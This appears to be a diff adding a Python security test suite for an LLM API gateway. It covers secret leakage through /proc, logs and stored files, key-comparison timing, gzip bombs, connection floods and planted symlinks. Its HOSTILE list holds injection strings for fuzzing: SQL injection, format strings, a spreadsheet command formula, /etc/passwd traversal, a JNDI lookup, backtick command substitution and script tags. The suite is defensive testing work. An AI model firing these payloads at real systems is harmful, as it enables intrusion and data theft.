@@ -1,0 +1,466 @@
+#!/usr/bin/env python3
+"""What the stories can't tell because it is about the process, its files or many clients at once: secrets
+in /proc, in files and in what is printed; hostile texts in every field; floods and few descriptors;
+planted files. Each check names the threat of the model it shows. Prints TAP."""
+import glob
+import json
+import math
+import os
+import random
+import resource
+import socket
+import stat
+import subprocess
+import sys
+import time
+import zlib
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+
+import gateway  # noqa: E402
+from peers import Client, Fault, Provider, post  # noqa: E402
+
+NOBODY = 65534
+SANITIZED = "debug" in gateway.BUILD or "tsan" in gateway.BUILD
+CHAT = "/v1/chat/completions"
+HOSTILE = ["' OR '1'='1", "'; DROP TABLE exchange; --", "\") UNION SELECT name FROM sqlite_master --", "%n%n%n%s%s",
+           "=cmd|' /C calc'!A0", "../../../../etc/passwd", "${jndi:ldap://x/a}", "\u202etxt.exe", "%' ESCAPE '",
+           "a\u0000b", "`id`", "<script>alert(1)</script>", "NULL", "\\", "\"", "0x00", "1e999", "*", "\u001b[2J"]
+
+
+class Skip(Exception):
+    pass
+
+
+def wish(right, text):
+    if not right:
+        raise Fault(text)
+
+
+def ask(port, body, headers=(), path=CHAT):
+    client = Client(port)
+    try:
+        client.send(post(path, body if isinstance(body, bytes) else json.dumps(body).encode(), headers))
+        return client.read()
+    finally:
+        client.sock.close()
+
+
+def config(providers, more=""):
+    rows = ["workers: 2", "providers:"]
+    for p in providers:
+        extra = getattr(p, "extra", "")
+        key = "" if "api_key" in extra else f", api_key: \"{p.key}\""
+        rows.append(f"  {p.name}: {{ dialect: {p.dialect}, base_url: \"{p.url}\", models: [{p.name}-m]{key}{extra} }}")
+    return "\n".join(rows) + "\n" + more
+
+
+def answering(name, body=b'{"id":"x","choices":[],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}'):
+    p = Provider(name)
+    p.blocks, p.repeat = [lambda _, link, __: link.answer(200, "application/json", body)], True
+    return p
+
+
+def started(g, text, words=()):
+    g.write_config(text)
+    g.start(words)
+    return g
+
+
+def rss_kib(pid):
+    with open(f"/proc/{pid}/status", encoding="ascii") as f:
+        return next(int(line.split()[1]) for line in f if line.startswith("VmRSS:"))
+
+
+def ends_well(g, errors_allowed=False):
+    g.stop()
+    faults = g.judge_log(errors_allowed)
+    wish(not faults, "; ".join(faults))
+
+
+# ---- secrets ----
+
+def t05_no_key_stands_in_proc(g):
+    """T5: keys of the environment are gone from /proc/PID once the gateway answers."""
+    planted = {"OPENAI_API_KEY": "sk-planted-openai-0123456789abcdef", "GROQ_API_KEY": "gsk_planted0123456789abcdef",
+               "POINTSMAN_MASTER_KEY": "5a" * 32, "TEAM_KEY": "sk-pm-planted-by-reference-00112233"}
+    g.env.update(planted)
+    p = answering("a")
+    started(g, config([p], "keys:\n  ci: { secret: env:TEAM_KEY }\n"))
+    for name in ("environ", "cmdline"):
+        with open(f"/proc/{g.process.pid}/{name}", "rb") as f:
+            text = f.read()
+        for key, value in planted.items():
+            wish(value.encode() not in text, f"{key} stands in /proc/PID/{name}")
+    answer = ask(g.port, {"model": "a-m", "messages": []}, [f"Authorization: Bearer {planted['TEAM_KEY']}"])
+    wish(answer.status == 200, f"the key of the environment is not taken: {answer.status} {answer.text()}")
+    ends_well(g)
+
+
+def t06_no_core_and_no_look_into_memory(g):
+    """T6: no core file, and /proc/PID/mem is root's alone."""
+    if os.getuid() != 0:
+        raise Skip("needs root, to be somebody else")
+    os.chmod(g.folder, 0o755)
+    os.makedirs(g.data, mode=0o700)
+    os.chown(g.data, NOBODY, NOBODY)
+    g.write_config(config([answering("a")]))
+    os.chmod(g.config, 0o644)
+    binary = subprocess.Popen([gateway.BINARY, "serve", "--config", g.config, "--data", g.data, "--listen", "127.0.0.1:0"],
+                              cwd="/", env=g.env, user=NOBODY, group=NOBODY, extra_groups=[],
+                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        line = binary.stdout.readline()
+        if not line.startswith(b"listening"):
+            raise Skip("another user can't run it from here: " + binary.stderr.read().decode("utf-8", "replace")[:200])
+        with open(f"/proc/{binary.pid}/limits", encoding="ascii") as f:
+            core = next(line for line in f if line.startswith("Max core file size"))
+        wish(core.split()[4:6] == ["0", "0"], core)
+        for name in ("mem", "environ"):
+            wish(os.stat(f"/proc/{binary.pid}/{name}").st_uid == 0, f"/proc/PID/{name} belongs to the gateway's user")
+    finally:
+        binary.terminate()
+        binary.communicate(timeout=15)
+
+
+def plant_trouble(canaries):
+    """A provider that answers with the very key it was called with: in errors, in streams, in heads."""
+    def block(_, link, request):
+        key = (request.header("authorization") or "Bearer none")[7:]
+        kind = json.loads(request.body).get("user", "")
+        if kind == "event":
+            link.stream_head()
+            link.chunk(b'data: {"choices":[{"index":0,"delta":{"content":"hi"}}]}\n\n')
+            link.chunk(b'data: {"error":{"message":"key ' + key.encode() + b' is over its limit","type":"x"}}\n\n')
+            link.send(b"0\r\n\r\n")
+        elif kind == "first":
+            link.stream_head()
+            link.chunk(b'data: {"error":{"message":"key ' + key.encode() + b' refused","type":"invalid_request_error"}}\n\n')
+            link.send(b"0\r\n\r\n")
+        elif kind == "error":
+            link.answer(400, "application/json", json.dumps({"error": {
+                "message": f"Incorrect key provided: {key}", "code": key}}).encode())
+        elif kind == "page":
+            link.answer(500, "text/html", b"<p>" + key.encode())
+        else:
+            link.answer(200, "application/json", json.dumps({"id": "x", "model": "m", "choices": [{
+                "index": 0, "message": {"role": "assistant", "content": "you sent " + key}, "finish_reason": key}]}).encode())
+    p = Provider("a")
+    p.blocks, p.repeat = [block], True
+    p.extra = ", api_keys: [" + ", ".join(f"env:CANARY_{i}" for i in range(len(canaries))) + "]"
+    return p
+
+
+def t07_canaries_are_seen_nowhere(g):
+    """T7: 30 planted keys, used and echoed in every way, are in no file, no log and nothing printed."""
+    random.seed(20261)
+    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
+    canaries = ["canary" + "".join(random.choice(letters) for _ in range(34)) for _ in range(30)]
+    mine, providers_own = canaries[:6], canaries[6:]
+    g.env.update({f"CANARY_{i}": c for i, c in enumerate(providers_own)})
+    g.env.update({f"MINE_{i}": c for i, c in enumerate(mine)})
+    keys = "".join(f"  k{i}: {{ secret: env:MINE_{i} }}\n" for i in range(len(mine)))
+    started(g, config([plant_trouble(providers_own)], "capture: { bodies: all }\nkeys:\n" + keys))
+    ids, client_saw = [], b""
+    for i in range(60):
+        own = mine[i % len(mine)]
+        kind = ("event", "first", "error", "page", "plain")[i % 5]
+        echo = providers_own[i % len(providers_own)] if i % 2 else own
+        body = {"model": "a-m" if i % 7 else f"a/{echo}", "user": kind, "stream": kind in ("event", "first"),
+                "messages": [{"role": "user", "content": f"my key is {own} and theirs {echo}"}]}
+        headers = [f"Authorization: Bearer {own}", f"User-Agent: tool {echo}", f"x-pointsman-session: s-{echo}",
+                   f"x-pointsman-tags: t:{echo}"]
+        answer = ask(g.port, body, headers, CHAT + (f"?key={own}" if i % 3 == 0 else ""))
+        ids.append(answer.header("x-request-id"))
+        if kind != "plain":  # its head may repeat the model that was asked for
+            client_saw += answer.body
+    for wrong in mine:  # nearly right
+        client_saw += ask(g.port, {"model": "a-m", "messages": []}, [f"x-api-key: {wrong}x"]).raw
+    for theirs in providers_own:
+        wish(theirs.encode() not in client_saw, "a provider's key reached a client in an error")
+    for own in mine:
+        wish(own.encode() not in client_saw, "an error echoes the key that was offered")
+    time.sleep(0.5)
+    printed = ""
+    for words in (["ps", "--json", "--limit", "500"], ["ps"], ["events"], ["events", "--json"], ["status"], ["audit"],
+                  ["key", "list"], ["provider", "list"], ["provider", "list", "--json"], ["config", "export"],
+                  ["config", "diff"], ["export"], ["cost", "report", "--by", "session"], ["doctor"], ["route", "list"]):
+        printed += "".join(str(part) for part in g.command(*words))
+    for ident in ids:
+        printed += g.command("show", ident, "--json")[1] + g.command("show", ident)[1]
+    for text, where in ((printed, "what the command line prints"), (g.read_log(), "the log")):
+        found = [c[:10] for c in canaries if c in text]
+        wish(not found, f"{len(found)} of 30 stand in {where}: {text[max(0, text.find(found[0]) - 300):][:600] if found else ''}")
+    files = [f for f in glob.glob(g.data + "/**", recursive=True) if os.path.isfile(f)]
+    wish(any("wal" in f or f.endswith(".db") for f in files), f"no database among {files}")
+    for path in files:
+        with open(path, "rb") as f:
+            data = f.read()
+        found = sum(c.encode() in data for c in canaries)
+        at = next((data.find(c.encode()) for c in canaries if c.encode() in data), 0)
+        wish(not found, f"{found} of 30 stand in {os.path.basename(path)}: {data[max(0, at - 120):at + 20]!r}")
+    ends_well(g)
+
+
+def t04_a_nearly_right_key_takes_as_long_as_a_wrong_one(g):
+    """T4: Welch's t of 2 x 5,000 refusals stays below 4.5."""
+    if SANITIZED:
+        raise Skip("times under a sanitizer say nothing")
+    secret = "sk-pm-" + "Kq7" * 14
+    g.env["ONE"] = secret
+    started(g, config([answering("a")], "keys:\n  one: { secret: env:ONE }\n"))
+    kinds = [secret[:-1] + "!", "zz-pm-" + "Xw3" * 14]
+    requests = [f"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {k}\r\n\r\n".encode() for k in kinds]
+    for attempt in range(3):  # a busy machine may spoil one
+        times, link = [[], []], socket.create_connection(("127.0.0.1", g.port))
+        link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        order = [0, 1] * 5000
+        random.shuffle(order)
+        for kind in order:
+            begun = time.perf_counter_ns()
+            link.sendall(requests[kind])
+            answer = link.recv(65536)
+            times[kind].append(time.perf_counter_ns() - begun)
+            wish(b" 401 " in answer[:20], f"not refused: {answer[:80]!r}")
+        link.close()
+        kept = [sorted(t)[:4500] for t in times]
+        mean = [sum(t) / len(t) for t in kept]
+        var = [sum((v - m) ** 2 for v in t) / (len(t) - 1) for t, m in zip(kept, mean)]
+        t_value = abs(mean[0] - mean[1]) / math.sqrt(sum(v / len(t) for v, t in zip(var, kept)))
+        if t_value < 4.5:
+            break
+    wish(t_value < 4.5, f"t = {t_value:.1f}: {mean[0]:.0f} ns against {mean[1]:.0f} ns")
+    ends_well(g)
+
+
+# ---- hostile texts ----
+
+def t08_hostile_texts_change_no_table(g):
+    """T8, T33: SQL, formats and formulas in every field that reaches the store: one row each, all tables there."""
+    p = answering("a")
+    started(g, config([p], "routes:\n  \"*\": { targets: [a/a-m] }\n"))
+    sent = 0
+    for text in HOSTILE:
+        line = "".join(c for c in text if " " <= c < "\x7f")
+        answer = ask(g.port, {"model": text, "user": text, "messages": [{"role": text, "content": text}]},
+                     [f"x-pointsman-session: {line}", f"x-pointsman-tags: {line}", f"User-Agent: {line}",
+                      f"Authorization: Bearer {line}"])
+        wish(answer.status in (200, 400, 404), f"{text!r}: {answer.status} {answer.text()[:200]}")
+        sent += 1
+    time.sleep(0.3)
+    before = len(g.records())
+    wish(before == sent, f"{sent} requests left {before} records")
+    for text in HOSTILE:
+        if "\0" in text:
+            continue
+        for words in (["ps", "--filter", text], ["ps", "--filter", f"model:\"{text}\""], ["show", text], ["cancel", text],
+                      ["cost", "report", "--by", text], ["key", "add", text], ["profile", "save", text],
+                      ["events", "--filter", text]):
+            code, _, err = g.command(*words)
+            wish(code in (0, 1, 2, 3, 4, 5, 6, 64, 65), f"{words} ended with {code}: {err[:200]}")
+    wish(len(g.records()) == before, "a search changed the number of records")
+    code, out, err = g.command("db", "check")
+    wish(code == 0, f"db check: {out} {err}")
+    code, out, _ = g.command("cost", "report", "--by", "session", "--csv")
+    wish(code == 0, "no report")
+    for cell in out.split('"'):
+        wish(not cell.startswith(("=cmd", "@", "+", "-c")), f"a cell that a spreadsheet would run: {cell!r}")
+    ends_well(g)
+
+
+def t16_a_bomb_leaves_memory_flat(g):
+    """T16: 200 MB in 200 kB of gzip: an error, and the process stays small."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    body = b"".join(packer.compress(b"\0" * (1 << 20)) for _ in range(200)) + packer.flush()
+    p = Provider("a")
+    p.blocks, p.repeat = [lambda _, link, __: link.answer(200, "application/json", body, ["Content-Encoding: gzip"])], True
+    started(g, config([p]))
+    ask(g.port, {"model": "a-m", "messages": []})
+    before = rss_kib(g.process.pid)
+    for _ in range(3):
+        answer = ask(g.port, {"model": "a-m", "messages": []})
+        wish(answer.status == 502 or not answer.complete, f"it passed: {answer.status}, {len(answer.body)} bytes")
+    grown = rss_kib(g.process.pid) - before
+    wish(grown < (200 << 10 if SANITIZED else 24 << 10), f"grown by {grown} KiB")
+    ends_well(g)
+
+
+# ---- many at once, and few descriptors ----
+
+def t31_the_excess_gets_503_and_the_rest_streams_on(g):
+    """T31: one and a half times the connections that are allowed: the excess is told, the rest is served."""
+    def block(_, link, __):
+        link.stream_head()
+        link.may_break = True
+        for _ in range(40):
+            link.chunk(b'data: {"choices":[{"index":0,"delta":{"content":"x"}}]}\n\n')
+            time.sleep(0.05)
+        link.chunk(b"data: [DONE]\n\n")
+        link.send(b"0\r\n\r\n")
+    p = Provider("a")
+    p.blocks, p.repeat = [block], True
+    started(g, config([p], "limits: { connections: 64 }\n"))
+    clients, statuses = [], []
+    for _ in range(96):
+        client = Client(g.port)
+        client.send(post(CHAT, b'{"model":"a-m","stream":true,"messages":[]}'))
+        clients.append(client)
+        time.sleep(0.003)
+    for client in clients:
+        answer = client.read()
+        statuses.append(answer.status)
+        if answer.status == 200:
+            wish(answer.complete and "[DONE]" in answer.text(), "a stream under the cap was cut")
+        else:
+            wish(answer.status == 503 and answer.header("retry-after"), f"{answer.status} without Retry-After")
+        client.sock.close()
+    wish(statuses.count(503) >= 16, f"{statuses.count(503)} of 96 got 503")
+    wish(statuses.count(200) >= 32, f"only {statuses.count(200)} of 96 were served")
+    wish(ask(g.port, {"model": "a-m", "stream": True, "messages": []}).status == 200, "it serves nobody afterwards")
+    ends_well(g)
+
+
+def few_descriptors(g, limit):
+    p = answering("a")
+    g.write_config(config([p]))
+    old = resource.getrlimit(resource.RLIMIT_NOFILE)
+    g.start_with = lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
+    popen = subprocess.Popen
+    try:
+        subprocess.Popen = lambda *a, **k: popen(*a, preexec_fn=g.start_with, **k)
+        try:
+            g.start()
+        except Fault as fault:  # too few to run at all: said in words
+            wish(limit < 128 and "open files" in str(fault), str(fault))
+            return
+    finally:
+        subprocess.Popen = popen
+    wish(resource.getrlimit(resource.RLIMIT_NOFILE) == old, "the test's own limit")
+    clients = []
+    for _ in range(limit * 2):
+        try:
+            client = Client(g.port)
+            client.sock.settimeout(0.2)
+            client.send(post(CHAT, b'{"model":"a-m","messages":[]}'))
+            clients.append(client)
+        except OSError:
+            break
+    time.sleep(1)
+    wish(g.process.poll() is None, f"it died with {g.process.returncode}: {g.read_log()[-600:]}")
+    for client in clients:
+        client.sock.close()
+    until = time.monotonic() + 10
+    while True:
+        try:
+            wish(ask(g.port, {"model": "a-m", "messages": []}).status == 200, "not served after the flood")
+            break
+        except (Fault, OSError):
+            if time.monotonic() > until:
+                raise
+            time.sleep(0.2)
+    ends_well(g, errors_allowed=True)
+
+
+def t32_256_descriptors_are_enough_to_live(g):
+    """T32: a flood against 256 descriptors: no crash, and service afterwards."""
+    few_descriptors(g, 256)
+
+
+def t32_64_descriptors_end_in_words_or_in_service(g):
+    """T32: 64 descriptors: it serves, or says at once that they are too few."""
+    few_descriptors(g, 64)
+
+
+# ---- doors ----
+
+def refuses(g, words, *texts):
+    command = [gateway.BINARY, "serve", "--config", g.config, "--data", g.data, *words]
+    done = subprocess.run(command, cwd=g.folder, env=g.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                          stderr=subprocess.PIPE, timeout=20)
+    said = done.stderr.decode("utf-8", "replace")
+    wish(done.returncode != 0, f"{words}: it started")
+    for text in texts:
+        wish(text in said, f"{words}: it says {said!r}, not {text!r}")
+
+
+def t22_planted_sockets_and_links_are_not_followed(g):
+    """T22: a link, a file or another gateway at the socket's place: refused, and left as it was."""
+    victim, place = os.path.join(g.folder, "victim"), os.path.join(g.folder, "door")
+    with open(victim, "w", encoding="ascii") as f:
+        f.write("mine")
+    g.write_config(config([answering("a")]))
+    os.symlink(victim, place)
+    refuses(g, ["--listen", "127.0.0.1:0", "--socket", place], "no socket")
+    wish(os.path.islink(place) and open(victim, encoding="ascii").read() == "mine", "the link or its target changed")
+    os.unlink(place)
+    g.start(["--socket", place])
+    wish(stat.S_IMODE(os.lstat(place).st_mode) & 0o077 == 0, "others may connect")
+    refuses(g, ["--listen", "127.0.0.1:0"], "")  # the same data folder
+    other, g.data = g.data, g.data + "-2"
+    refuses(g, ["--listen", "127.0.0.1:0", "--socket", place], "gateway")  # another folder, the same socket
+    g.data = other
+    code, _, err = g.command("--socket", place, "status")
+    wish(code == 0, f"the first one is not reached any more: {err}")
+    ends_well(g)
+    if not os.path.exists(place):
+        dead = socket.socket(socket.AF_UNIX)
+        dead.bind(place)
+        dead.close()
+    g.start(["--socket", place])  # a stale one is ours to remove
+    ends_well(g)
+
+
+def t25_an_open_port_needs_a_key_and_a_word(g):
+    """T25: on a network address: not without a key, not in clear text unless that is said."""
+    g.env["K"] = "sk-pm-a-key-that-was-made-by-hand-1"
+    g.write_config(config([answering("a")]))
+    refuses(g, ["--listen", "0.0.0.0:0"], "no key is defined")
+    refuses(g, ["--listen", "[::]:0"], "no key is defined")
+    g.write_config(config([answering("a")], "keys:\n  one: { secret: env:K }\n"))
+    refuses(g, ["--listen", "0.0.0.0:0"], "allow_plaintext")
+
+
+def t34_the_binary_is_hardened(_):
+    """T34: position independent, read-only relocations, stack protector, fortified."""
+    if SANITIZED:
+        raise Skip("a debug build")
+    try:
+        text = subprocess.run(["readelf", "-hldW", "--dyn-syms", gateway.BINARY], stdout=subprocess.PIPE,
+                              check=True).stdout.decode("ascii", "replace")
+    except OSError:
+        raise Skip("readelf is not here") from None
+    for need in ("DYN (", "GNU_RELRO", "BIND_NOW", "__stack_chk_fail", "_chk@"):
+        wish(need in text, f"{need} is missing")
+    for row in text.splitlines():
+        wish("GNU_STACK" not in row or "RWE" not in row, "the stack may be executed")
+
+
+def main():
+    checks = [f for name, f in sorted(globals().items()) if name[0] == "t" and name[1:3].isdigit()]
+    parts = sys.argv[1:]
+    checks = [f for f in checks if not parts or any(part in f.__name__ for part in parts)]
+    print(f"1..{len(checks)}")
+    if not gateway.present():
+        print("not ok 1 - build/pointsman serve is not there")
+        return 1
+    failed = 0
+    for number, check in enumerate(checks, 1):
+        g, begun = gateway.Gateway(), time.monotonic()
+        name = f"{check.__name__[:3]} {check.__name__[4:].replace('_', ' ')}"
+        try:
+            check(g)
+            print(f"ok {number} - {name} ({time.monotonic() - begun:.1f} s)", flush=True)
+        except Skip as why:
+            print(f"ok {number} - {name} # SKIP {why}", flush=True)
+        except (Fault, OSError, ValueError, subprocess.SubprocessError) as fault:
+            failed += 1
+            print(f"not ok {number} - {name}", flush=True)
+            print("    # " + str(fault).replace("\n", "\n    # "))
+        finally:
+            g.remove()
+    return 1 if failed else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
